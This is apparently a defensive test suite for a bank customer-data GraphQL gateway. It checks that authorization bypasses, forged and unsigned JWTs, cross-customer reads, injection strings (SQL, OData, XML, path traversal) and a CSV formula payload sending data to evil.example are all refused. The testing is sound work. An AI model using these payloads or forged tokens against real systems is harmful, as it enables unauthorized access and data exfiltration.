import { createHash } from 'node:crypto';
import { readFile } from 'node:fs/promises';
import { SignJWT } from 'jose';
import type { JsonlAuditStore } from '../../gateway/audit/jsonlAuditStore';
import type { AuditEvent } from '../../gateway/audit/auditEvent';
import type { SourceSystem } from '../../adapters/canonical';
import type { Dataset } from '../../simulators/dataset/loadDataset';
import type { TruePerson } from '../../simulators/dataset/records';
import type { RunningStack } from '../../stack/startStack';
import { TEST_AUTH_SECRET } from '../support/testAuth';
import { testDataset } from '../support/testStack';
import { legacyCalls, post, securityToken, startProductionStack, SECURITY_AUDIENCE, SECURITY_ISSUER, type RawResponse, type TokenOptions } from './support/productionStack';

/**
 * The gateway's trust boundary, attacked as an outsider with a valid token would: one row per
 * attack (those issue #11 found open, and those that held). Each row asserts the refusal, that
 * no legacy system saw a call for it (GET /__admin/stats on every simulator) unless the row says
 * otherwise, and, for the attacks that would change something, that nothing changed (steward
 * decisions, bookings, the crosswalk). The stack runs in production mode with real keys.
 */

const UNLINK = 'mutation Unlink($input: StewardDecisionInput!) { unlinkSourceRecords(input: $input) { decision { kind } errors { code } } }';
const BOOK = 'mutation Book($input: ScheduleCallbackInput!) { scheduleCallback(input: $input) { appointment { id } userErrors { code } } }';
const AUDIT_ONLY = 'query Records($id: ID!) { customer(id: $id) { id coreBankingRecords { nationalId } } }';

interface Context {
  stack: RunningStack;
  dataset: Dataset;
  /** The mobile user's own customer, and another customer (each with a card and an advisor). */
  self: { person: TruePerson; id: string };
  other: { person: TruePerson; id: string; freeSlot: string };
  /** Two records of one customer a steward could unlink. */
  pair: { a: { system: SourceSystem; localId: string }; b: { system: SourceSystem; localId: string } };
}
const ctx = {} as Context;

const bearer = async (role: string | readonly string[], options: TokenOptions = {}) => ({ authorization: `Bearer ${await securityToken(role, options)}` });
const mobile = (customerId = ctx.self.id) => bearer('mobile-app', { subject: 'app-user', customerId });
const gql = async (body: unknown, role: string | readonly string[] | Record<string, string>, options: TokenOptions = {}) =>
  post(ctx.stack.gateway.url, body, typeof role === 'object' && !Array.isArray(role) ? (role as Record<string, string>) : await bearer(role as string, options));
const get = async (params: Record<string, string>, headers: Record<string, string>): Promise<RawResponse> => {
  const response = await fetch(`${ctx.stack.gateway.url}?${new URLSearchParams(params)}`, { headers: { 'apollo-require-preflight': 'true', ...headers } });
  return { status: response.status, headers: response.headers, json: await response.json() };
};
const codes = (response: RawResponse): string[] => (response.json?.errors ?? []).map((e: { extensions?: { code?: string } }) => e.extensions?.code);
const hs256 = (claims: Record<string, unknown>) => new SignJWT(claims).setProtectedHeader({ alg: 'HS256' }).sign(TEST_AUTH_SECRET);
const now = () => Math.floor(Date.now() / 1000);

/** What an attack could change, read through the graph as an auditor (not through the code under test). */
async function recordOfState(): Promise<unknown> {
  const auditor = await bearer('auditor');
  const decisions = await post(ctx.stack.gateway.url, { query: '{ stewardDecisions(first: 100) { id kind decidedBy } }' }, auditor);
  const crosswalk = await Promise.all(
    [ctx.pair.a, ctx.pair.b].map((ref) =>
      post(ctx.stack.gateway.url, { query: 'query($s: SourceSystem!, $l: String!) { customerBySourceKey(system: $s, localId: $l) { id sourceKeys { system localId } } }', variables: { s: ref.system, l: ref.localId } }, auditor),
    ),
  );
  const bookings = await Promise.all(
    [ctx.self.id, ctx.other.id].map((id) => post(ctx.stack.gateway.url, { query: 'query($id: ID!) { customer(id: $id) { appointments { id slotId } } }', variables: { id } }, auditor)),
  );
  return { decisions: decisions.json.data, crosswalk: crosswalk.map((r) => r.json.data), bookings: bookings.map((r) => r.json.data) };
}

interface Attack {
  attack: string;
  /** Done before the legacy calls are counted (e.g. an auditor registering the APQ hash). */
  prepare?: () => Promise<void>;
  send: () => Promise<RawResponse>;
  status: number;
  /** The error code the refusal carries (first error, or any error for partial refusals). */
  code: string;
  /** Extra assertions on the response. */
  check?: (response: RawResponse) => void | Promise<void>;
  /** Legacy systems that may be called (default none). */
  legacyAllowed?: readonly SourceSystem[];
  /** Compare steward decisions, bookings and the crosswalk before and after. */
  unchanged?: boolean;
}

const unlinkInput = () => ({ input: { ...ctx.pair, reason: 'attacker says they differ' } });
const bookInput = (customerId = ctx.other.id) => ({ input: { customerId, slotId: ctx.other.freeSlot, idempotencyKey: `attack-${customerId}-${Date.now()}` } });
const noData = (response: RawResponse) => expect(response.json.data ?? null).toBeNull();
const nullAt = (key: string) => (response: RawResponse) => {
  expect(response.json.data.customer[key]).toBeNull();
  expect(response.json.errors.some((e: { extensions: { code: string } }) => e.extensions.code === 'FORBIDDEN')).toBe(true);
};
const INJECTIONS = ["0000000001' OR '1'='1", '0000000001\n0000000002', '../../__admin/reset', "1' or PartnerNumber ne '", '</localId><localId>C000000001', '%00%27', 'A'.repeat(300)];

const ATTACKS: Attack[] = [
  // ---- fail closed on the operation (were open: the "operationName": "" bypass, 500s)
  { attack: '"operationName": "" to run unlinkSourceRecords with an integration token', send: () => gql({ query: UNLINK, operationName: '', variables: unlinkInput() }, 'integration'), status: 400, code: 'BAD_REQUEST', check: noData, unchanged: true },
  { attack: '"operationName": "" to book scheduleCallback with an integration token', send: () => gql({ query: BOOK, operationName: '', variables: bookInput() }, 'integration'), status: 400, code: 'BAD_REQUEST', check: noData, unchanged: true },
  { attack: '"operationName": "" to make a teller\'s forbidden read reach core banking', send: () => gql({ query: AUDIT_ONLY, operationName: '', variables: { id: ctx.other.id } }, 'teller'), status: 400, code: 'BAD_REQUEST', check: noData },
  { attack: 'an unknown operationName (was a 500)', send: () => gql({ query: AUDIT_ONLY, operationName: 'Other', variables: { id: ctx.other.id } }, 'auditor'), status: 400, code: 'BAD_REQUEST', check: (r) => expect(r.json.errors[0].message).toMatch(/no operation named "Other"/) },
  { attack: 'several named operations and no operationName (was a 500)', send: () => gql({ query: `${AUDIT_ONLY} query Second { customers(first: 1) { totalCount } }`, variables: { id: ctx.other.id } }, 'auditor'), status: 400, code: 'BAD_REQUEST' },
  { attack: 'several anonymous operations', send: () => gql({ query: '{ customers(first: 1) { totalCount } } { customers(first: 2) { totalCount } }' }, 'auditor'), status: 400, code: 'GRAPHQL_VALIDATION_FAILED' },
  { attack: 'the "" bypass over GET', send: async () => get({ query: AUDIT_ONLY, operationName: '', variables: JSON.stringify({ id: ctx.other.id }) }, await bearer('teller')), status: 400, code: 'BAD_REQUEST' },
  {
    attack: 'the "" bypass with an automatic persisted query, which must not get registered either',
    send: async () => {
      const sha256Hash = createHash('sha256').update(UNLINK).digest('hex');
      const extensions = { persistedQuery: { version: 1, sha256Hash } };
      const refused = await gql({ query: UNLINK, operationName: '', variables: unlinkInput(), extensions }, 'integration');
      const replay = await gql({ variables: unlinkInput(), extensions }, 'data-steward');
      expect(codes(replay)).toEqual(['PERSISTED_QUERY_NOT_FOUND']);
      return refused;
    },
    status: 400,
    code: 'BAD_REQUEST',
    unchanged: true,
  },
  { attack: 'a batch of operations in one request', send: () => gql([{ query: BOOK, variables: bookInput() }, { query: UNLINK, variables: unlinkInput() }], 'call-center-agent'), status: 400, code: 'BAD_REQUEST', unchanged: true },
  { attack: 'the reserved audit alias in a client document (to hide a customer from the trail)', send: () => gql({ query: 'query($id: ID!) { customer(id: $id) { _uvAuditCustomerId: __typename } }', variables: { id: ctx.other.id } }, 'teller'), status: 400, code: 'BAD_REQUEST' },

  // ---- the field and mutation policy (held; kept)
  { attack: 'unlinkSourceRecords with an integration token', send: () => gql({ query: UNLINK, variables: unlinkInput() }, 'integration'), status: 403, code: 'FORBIDDEN', check: noData, unchanged: true },
  { attack: 'scheduleCallback with a teller token', send: () => gql({ query: BOOK, variables: bookInput() }, 'teller'), status: 403, code: 'FORBIDDEN', check: noData, unchanged: true },
  { attack: 'a forbidden field under an alias', send: () => gql({ query: 'query($id: ID!) { customer(id: $id) { id x: coreBankingRecords { nationalId } } }', variables: { id: ctx.other.id } }, 'teller'), status: 200, code: 'FORBIDDEN', check: nullAt('x') },
  { attack: 'a forbidden field in a fragment', send: () => gql({ query: 'query($id: ID!) { customer(id: $id) { id ...R } } fragment R on Customer { coreBankingRecords { nationalId } }', variables: { id: ctx.other.id } }, 'teller'), status: 200, code: 'FORBIDDEN', check: nullAt('coreBankingRecords') },
  { attack: 'a forbidden field in an inline fragment', send: () => gql({ query: 'query($id: ID!) { customer(id: $id) { id ... on Customer { accounts { balance { amount } } } } }', variables: { id: ctx.other.id } }, 'call-center-agent'), status: 200, code: 'FORBIDDEN', check: nullAt('accounts') },
  {
    attack: "an auditor's persisted query replayed by hash with a teller token",
    prepare: async () => {
      const extensions = { persistedQuery: { version: 1, sha256Hash: createHash('sha256').update(AUDIT_ONLY).digest('hex') } };
      expect((await gql({ query: AUDIT_ONLY, variables: { id: ctx.other.id }, extensions }, 'auditor')).status).toBe(200);
    },
    send: () => gql({ variables: { id: ctx.other.id }, extensions: { persistedQuery: { version: 1, sha256Hash: createHash('sha256').update(AUDIT_ONLY).digest('hex') } } }, 'teller'),
    status: 200,
    code: 'FORBIDDEN',
    check: nullAt('coreBankingRecords'),
  },
  { attack: 'a forbidden field over GET', send: async () => get({ query: AUDIT_ONLY, variables: JSON.stringify({ id: ctx.other.id }) }, await bearer('teller')), status: 200, code: 'FORBIDDEN', check: nullAt('coreBankingRecords') },
  { attack: 'introspection in production', send: () => gql({ query: '{ __schema { types { name } } }' }, 'auditor'), status: 400, code: 'GRAPHQL_VALIDATION_FAILED' },
  { attack: 'field suggestions in production (schema probing)', send: () => gql({ query: '{ custmers(first: 1) { totalCount } }' }, 'auditor'), status: 400, code: 'GRAPHQL_VALIDATION_FAILED', check: (r) => expect(JSON.stringify(r.json)).not.toMatch(/Did you mean/) },
  { attack: 'a data steward reading the audit trail', send: () => gql({ query: 'query($id: ID!) { auditTrail(customerId: $id) { edges { node { subject } } } }', variables: { id: ctx.other.id } }, 'data-steward'), status: 200, code: 'FORBIDDEN', check: (r) => expect(r.json.errors[0].extensions).toMatchObject({ field: 'Query.auditTrail', class: 'AUDIT_TRAIL' }) },
  {
    attack: 'an integration caller reading insights derived from financial data',
    send: () => gql({ query: 'query($id: ID!) { customer(id: $id) { id lifecycleStage { stage } nextBestActions { code } } }', variables: { id: ctx.other.id } }, 'integration'),
    status: 200,
    code: 'FORBIDDEN',
    check: (r) => expect(r.json.errors.map((e: { extensions: { field: string; class: string } }) => `${e.extensions.field}:${e.extensions.class}`).sort()).toEqual(['Customer.lifecycleStage:INSIGHT', 'Customer.nextBestActions:INSIGHT']),
  },
  {
    attack: 'a call-center agent reading the amounts behind the insights',
    send: () => gql({ query: 'query($id: ID!) { customer(id: $id) { id lifecycleStage { stage reasons } nextBestActions { code reason } } }', variables: { id: ctx.other.id } }, 'call-center-agent'),
    status: 200,
    code: 'FORBIDDEN',
    // The stage and the actions are served (INSIGHT), so the systems they derive from are read.
    legacyAllowed: ['CORE_BANKING', 'CARDS', 'ERP', 'CALL_CENTER'],
    check: (r) => {
      expect(r.json.data.customer.lifecycleStage.stage).toEqual(expect.any(String));
      expect(r.json.data.customer.lifecycleStage.reasons).toBeNull();
      // One error per refused field: how many next-best actions the customer has depends on the population.
      const refused = new Set(r.json.errors.map((e: { extensions: { field: string; class: string } }) => `${e.extensions.field}:${e.extensions.class}`));
      expect([...refused].sort()).toEqual(['LifecycleStage.reasons:FINANCIAL', 'NextBestAction.reason:FINANCIAL']);
    },
  },

  // ---- tokens (foreign issuer/audience and long lives were accepted)
  { attack: 'no token', send: () => gql({ query: '{ customers(first: 1) { totalCount } }' }, {}), status: 401, code: 'UNAUTHENTICATED' },
  { attack: 'a token from a foreign issuer', send: () => gql({ query: '{ customers(first: 1) { totalCount } }' }, 'auditor', { issuer: 'https://evil.example' }), status: 401, code: 'UNAUTHENTICATED' },
  { attack: 'a token for another audience', send: () => gql({ query: '{ customers(first: 1) { totalCount } }' }, 'auditor', { audience: 'another-app' }), status: 401, code: 'UNAUTHENTICATED' },
  { attack: 'a token without issuer and audience', send: async () => gql({ query: '{ customers(first: 1) { totalCount } }' }, { authorization: `Bearer ${await hs256({ sub: 'x', roles: ['auditor'], iat: now(), exp: now() + 600 })}` }), status: 401, code: 'UNAUTHENTICATED' },
  { attack: 'a token that lives 100 years', send: () => gql({ query: '{ customers(first: 1) { totalCount } }' }, 'auditor', { ttl: 100 * 365 * 86400 }), status: 401, code: 'UNAUTHENTICATED' },
  {
    attack: 'a token issued in the future to stretch its life',
    send: async () => gql({ query: '{ customers(first: 1) { totalCount } }' }, { authorization: `Bearer ${await hs256({ sub: 'x', roles: ['auditor'], iss: SECURITY_ISSUER, aud: SECURITY_AUDIENCE, iat: now() + 86400 * 365, exp: now() + 86400 * 365 + 600 })}` }),
    status: 401,
    code: 'UNAUTHENTICATED',
  },
  { attack: 'an expired token, past the 5 s leeway', send: () => gql({ query: '{ customers(first: 1) { totalCount } }' }, 'auditor', { claims: { exp: now() - 10 } }), status: 401, code: 'UNAUTHENTICATED' },
  {
    attack: 'an unsigned token (alg none)',
    send: () => {
      const part = (o: object) => Buffer.from(JSON.stringify(o)).toString('base64url');
      return gql({ query: '{ customers(first: 1) { totalCount } }' }, { authorization: `Bearer ${part({ alg: 'none' })}.${part({ sub: 'x', roles: ['auditor'], iss: SECURITY_ISSUER, aud: SECURITY_AUDIENCE, iat: now(), exp: now() + 60 })}.` });
    },
    status: 401,
    code: 'UNAUTHENTICATED',
  },

  // ---- mobile self-service (any mobile-app token read any customer)
  { attack: 'a mobile-app token reading another customer', send: async () => gql({ query: 'query($id: ID!) { customer(id: $id) { profile { fullName { value } } } }', variables: { id: ctx.other.id } }, await mobile()), status: 403, code: 'FORBIDDEN', check: noData },
  { attack: 'a mobile-app token reading itself and another customer under aliases', send: async () => gql({ query: `{ me: customer(id: "${ctx.self.id}") { id } them: customer(id: "${ctx.other.id}") { id } }` }, await mobile()), status: 403, code: 'FORBIDDEN', check: noData },
  { attack: 'a mobile-app token listing customers', send: async () => gql({ query: '{ customers(first: 20) { edges { node { profile { fullName { value } } } } } }' }, await mobile()), status: 403, code: 'FORBIDDEN', check: noData },
  { attack: 'a mobile-app token searching customers', send: async () => gql({ query: `{ searchCustomers(text: "${ctx.other.person.familyName}") { edges { node { id } } } }` }, await mobile()), status: 403, code: 'FORBIDDEN', check: noData },
  { attack: "a mobile-app token looking up another customer's card", send: async () => gql({ query: `{ customerBySourceKey(system: CARDS, localId: "${ctx.other.person.keys.cardholderIds[0]}") { id } }` }, await mobile()), status: 403, code: 'FORBIDDEN', check: noData },
  {
    attack: "a mobile-app token looking up another customer's card and its balances (legacy called, answer withheld)",
    send: async () => gql({ query: `{ customerBySourceKey(system: CARDS, localId: "${ctx.other.person.keys.cardholderIds[0]}") { cards { maskedPan balance { amount } } } }` }, await mobile()),
    status: 403,
    code: 'FORBIDDEN',
    check: (r) => {
      noData(r);
      expect(JSON.stringify(r.json)).not.toMatch(/maskedPan|amount/);
    },
    legacyAllowed: ['CARDS'],
  },
  { attack: 'a mobile-app token booking a callback for another customer', send: async () => gql({ query: BOOK, variables: bookInput(ctx.other.id) }, await mobile()), status: 403, code: 'FORBIDDEN', check: noData, unchanged: true },
  { attack: 'a mobile-app token without its customer', send: () => gql({ query: `{ customer(id: "${ctx.self.id}") { id } }` }, 'mobile-app'), status: 403, code: 'FORBIDDEN' },
  { attack: 'a mobile-app token reading the discrepancy report', send: async () => gql({ query: '{ discrepancyReport(first: 5) { edges { node { customer { id } } } } }' }, await mobile()), status: 403, code: 'FORBIDDEN', check: noData },

  // ---- injection into the four dialects (held): client input that names source records never reaches a system unescaped
  ...(['CORE_BANKING', 'CARDS', 'ERP', 'CALL_CENTER'] as const).flatMap((system): Attack[] =>
    INJECTIONS.map((payload) => ({
      attack: `an injection payload as a ${system} key (${JSON.stringify(payload).slice(0, 30)})`,
      send: () => gql({ query: 'query($s: SourceSystem!, $l: String!) { customerBySourceKey(system: $s, localId: $l) { id accounts { balance { amount } } } }', variables: { s: system, l: payload } }, 'teller'),
      status: 200,
      code: 'NONE',
      check: (r: RawResponse) => expect(r.json).toEqual({ data: { customerBySourceKey: null } }),
    })),
  ),
  {
    attack: 'an XML injection into the call-center booking key (SOAP)',
    send: () => gql({ query: BOOK, variables: { input: { customerId: ctx.other.id, slotId: ctx.other.freeSlot, idempotencyKey: '</idempotencyKey><x>&amp;' } } }, 'call-center-agent'),
    status: 200,
    code: 'BAD_USER_INPUT',
    check: (r) => expect(r.json.data?.scheduleCallback ?? null).toBeNull(),
    legacyAllowed: ['CALL_CENTER'],
    unchanged: true,
  },
  {
    attack: 'an XML injection into the call-center booking slot (SOAP)',
    send: () => gql({ query: BOOK, variables: { input: { customerId: ctx.other.id, slotId: `${ctx.other.freeSlot}</slotId><slotId>x`, idempotencyKey: `xml-slot-${Date.now()}` } } }, 'call-center-agent'),
    status: 200,
    code: 'BAD_USER_INPUT',
    check: (r) => expect(r.json.data?.scheduleCallback ?? null).toBeNull(),
    legacyAllowed: ['CALL_CENTER'],
    unchanged: true,
  },
];

describe('gateway attacks (production mode, real keys)', () => {
  beforeAll(async () => {
    const { dataset } = await testDataset();
    ctx.dataset = dataset;
    ctx.stack = await startProductionStack(dataset);
    const auditor = await bearer('auditor');
    const advised = new Set(dataset.callCenter.filter((c) => c.advisorId).map((c) => c.contactId));
    const candidates = dataset.truth.filter((p) => p.keys.cifs.length === 1 && p.keys.cardholderIds.length === 1 && p.keys.contactIds.length === 1 && advised.has(p.keys.contactIds[0]));
    const customerOf = async (system: SourceSystem, localId: string) =>
      (await post(ctx.stack.gateway.url, { query: 'query($s: SourceSystem!, $l: String!) { customerBySourceKey(system: $s, localId: $l) { id } }', variables: { s: system, l: localId } }, auditor)).json.data.customerBySourceKey.id as string;
    const [selfPerson, otherPerson] = candidates;
    ctx.self = { person: selfPerson, id: await customerOf('CARDS', selfPerson.keys.cardholderIds[0]) };
    const otherId = await customerOf('CARDS', otherPerson.keys.cardholderIds[0]);
    const advisor = await post(ctx.stack.gateway.url, { query: 'query($id: ID!) { customer(id: $id) { advisor { freeSlots(first: 1) { id } } } }', variables: { id: otherId } }, auditor);
    ctx.other = { person: otherPerson, id: otherId, freeSlot: advisor.json.data.customer.advisor.freeSlots[0].id };
    ctx.pair = { a: { system: 'CORE_BANKING', localId: otherPerson.keys.cifs[0] }, b: { system: 'CARDS', localId: otherPerson.keys.cardholderIds[0] } };
    expect(ctx.self.id).not.toBe(ctx.other.id);
    expect(await customerOf('CORE_BANKING', otherPerson.keys.cifs[0])).toBe(otherId); // the pair is one customer now
    // From here on the simulators count only what requests cause (identity's change-feed polling stops).
    ctx.stack.identity.stopFollowing();
  });
  afterAll(async () => {
    await ctx.stack?.close();
  });

  it.each(ATTACKS.map((a) => [a.attack, a] as const))('refuses %s', async (_name, attack) => {
    await attack.prepare?.();
    const stateBefore = attack.unchanged ? await recordOfState() : undefined;
    const callsBefore = await legacyCalls(ctx.stack);
    const response = await attack.send();
    const callsAfter = await legacyCalls(ctx.stack);

    expect({ status: response.status, code: attack.code === 'NONE' ? codes(response) : codes(response).includes(attack.code) ? attack.code : codes(response) }).toEqual({
      status: attack.status,
      code: attack.code === 'NONE' ? [] : attack.code,
    });
    expect(JSON.stringify(response.json)).not.toMatch(/"stacktrace"|INTERNAL_SERVER_ERROR/);
    await attack.check?.(response);
    const unexpected = Object.fromEntries(Object.entries(callsAfter).filter(([system, n]) => n !== callsBefore[system as SourceSystem] && !attack.legacyAllowed?.includes(system as SourceSystem)));
    expect(unexpected).toEqual({});
    if (stateBefore) expect(await recordOfState()).toEqual(stateBefore);
  });

  it('lets a mobile-app token read, look up and book for its own customer (the refusals above are not blanket)', async () => {
    const headers = await mobile();
    const own = await gql({ query: 'query($id: ID!) { customer(id: $id) { id profile { fullName { value } } accounts { accountNumber } } }', variables: { id: ctx.self.id } }, headers);
    expect(own.status).toBe(200);
    expect(own.json.errors).toBeUndefined();
    expect(own.json.data.customer.id).toBe(ctx.self.id);
    const card = await gql({ query: `{ customerBySourceKey(system: CARDS, localId: "${ctx.self.person.keys.cardholderIds[0]}") { id } }` }, headers);
    expect(card.json).toEqual({ data: { customerBySourceKey: { id: ctx.self.id } } });
    const slots = await gql({ query: 'query($id: ID!) { customer(id: $id) { advisor { freeSlots(first: 1) { id } } } }', variables: { id: ctx.self.id } }, headers);
    const slotId = slots.json.data.customer.advisor.freeSlots[0].id;
    const booked = await gql({ query: BOOK, variables: { input: { customerId: ctx.self.id, slotId, idempotencyKey: `own-booking-${slotId}` } } }, headers);
    expect(booked.json.data.scheduleCallback).toEqual({ appointment: { id: expect.any(String) }, userErrors: [] });
  });

  it('records refused attempts as DENIED with the refused classes, and the reason', async () => {
    const store = ctx.stack.auditStore as JsonlAuditStore;
    const teller = await bearer('teller', { subject: 'denied-teller' });
    await post(ctx.stack.gateway.url, { query: AUDIT_ONLY, variables: { id: ctx.other.id } }, { ...teller, 'x-request-id': 'denied-fields-1' });
    await post(ctx.stack.gateway.url, { query: UNLINK, variables: unlinkInput() }, { ...(await bearer('integration')), 'x-request-id': 'denied-mutation-1' });
    await post(ctx.stack.gateway.url, { query: 'query Peek($id: ID!) { customer(id: $id) { profile { fullName { value } } } }', variables: { id: ctx.other.id } }, { ...(await mobile()), 'x-request-id': 'denied-customer-1' });
    await post(ctx.stack.gateway.url, { query: '{ customers(first: 3) { edges { node { id } } } }' }, { ...(await mobile()), 'x-request-id': 'denied-list-1' });

    const events = (await readFile(store.path, 'utf8')).trim().split('\n').map((l) => JSON.parse(l) as AuditEvent);
    const of = (requestId: string) => events.filter((e) => e.requestId === requestId).map(({ kind, customerIds, fieldClasses, reason, operationName }) => ({ kind, customerIds, fieldClasses, reason, operationName }));
    expect(of('denied-fields-1').sort((a, b) => a.kind.localeCompare(b.kind))).toEqual([
      { kind: 'ACCESS', customerIds: [ctx.other.id], fieldClasses: [], reason: undefined, operationName: 'Records' },
      { kind: 'DENIED', customerIds: [ctx.other.id], fieldClasses: ['AUDIT'], reason: 'FORBIDDEN_FIELDS', operationName: 'Records' },
    ]);
    expect(of('denied-mutation-1')).toEqual([{ kind: 'DENIED', customerIds: [], fieldClasses: [], reason: 'FORBIDDEN_MUTATION Mutation.unlinkSourceRecords', operationName: 'Unlink' }]);
    expect(of('denied-customer-1')).toEqual([{ kind: 'DENIED', customerIds: [ctx.other.id], fieldClasses: ['PII'], reason: 'OTHER_CUSTOMER', operationName: 'Peek' }]);
    expect(of('denied-list-1')).toEqual([{ kind: 'DENIED', customerIds: [], fieldClasses: [], reason: 'CUSTOMER_LIST', operationName: '(unnamed)' }]);
  });

  it('counts 401s in the metrics by reason, and labels unnamed operations "unnamed", not "anonymous"', async () => {
    const metrics = async () => (await fetch(ctx.stack.gateway.url.replace('/graphql', '/metrics'))).text();
    const count = (text: string, reason: string) => Number(new RegExp(`uv_gateway_unauthenticated_total\\{reason="${reason}"\\} (\\d+)`).exec(text)?.[1] ?? 0);
    const before = await metrics();
    await gql({ query: '{ customers(first: 1) { totalCount } }' }, {});
    await gql({ query: '{ customers(first: 1) { totalCount } }' }, 'auditor', { issuer: 'https://evil.example' });
    await gql({ query: '{ customers(first: 1) { totalCount } }' }, 'auditor', { audience: 'x' });
    await gql({ query: '{ customers(first: 1) { totalCount } }' }, 'auditor');
    const after = await metrics();
    expect({ missing: count(after, 'missing') - count(before, 'missing'), invalid: count(after, 'invalid') - count(before, 'invalid') }).toEqual({ missing: 1, invalid: 2 });
    expect(after).toMatch(/uv_gateway_requests_total\{operation="unnamed",outcome="ok"\} [1-9]/);
    expect(after).not.toMatch(/operation="anonymous"/);
  });

  it('neutralises formulas from a legacy record in the auditors\' discrepancy CSV', async () => {
    const contactId = ctx.other.person.keys.contactIds[0];
    const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';
    const edit = await fetch(`${ctx.stack.simulators.CALL_CENTER.url}/__admin/records`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ contactId, changes: { email: formula } }),
    });
    expect(edit.status).toBe(200);
    expect(await ctx.stack.identity.pollChanges()).toBeGreaterThanOrEqual(1);
    const csv = await fetch(ctx.stack.gateway.url.replace('/graphql', '/reports/discrepancies.csv?field=EMAIL&systems=CALL_CENTER'), { headers: await bearer('auditor') });
    expect(csv.status).toBe(200);
    const text = await csv.text();
    const row = text.split('\n').find((line) => line.includes(contactId));
    expect(row).toBeDefined();
    expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Open"")"`);
    // No cell of the file starts a formula.
    for (const line of text.trim().split('\n').slice(1)) expect(line).not.toMatch(/(^|,)"?[=+\-@\t\r]/);
  });
});
